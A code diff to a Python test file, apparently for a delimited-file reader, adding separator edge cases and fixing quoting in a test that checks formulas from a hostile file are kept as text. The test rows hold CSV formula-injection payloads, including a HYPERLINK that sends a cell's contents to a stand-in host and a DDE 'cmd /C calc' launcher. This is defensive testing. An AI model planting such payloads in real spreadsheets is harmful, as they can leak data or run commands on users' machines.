@@ -1,5 +1,5 @@
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from tests.material import shared
@@ -14,6 +14,9 @@ def rows(data):
     return [[cell.text for cell in line.cells] for line in read_delimited(data).sheets[0].lines]
 
 
+@example([(";", ";")])
+@example([("sep=;", "a")])
+@example([("a|b;c", "\td,e")])
 @given(
     st.lists(st.tuples(PLAIN.filter(str.strip), PLAIN.filter(str.strip)), min_size=1, max_size=9)
 )
@@ -30,8 +33,8 @@ def test_every_formula_of_the_hostile_file_leaves_as_text_and_numbers_stay():
         "id,vendor,answer",
         """R-01,"'=HYPERLINK(""http://example.invalid?x=""&A1,""click"")",yes""",
         "R-02,'+1+1,'-2+3",
-        "R-03,'@SUM(1),'\t=1+1",
-        "R-04,'=cmd|' /C calc'!A0,-5",
+        "R-03,'@SUM(1),\"'\t=1+1\"",
+        """R-04,"'=cmd|' /C calc'!A0",-5""",
     ]
 
 
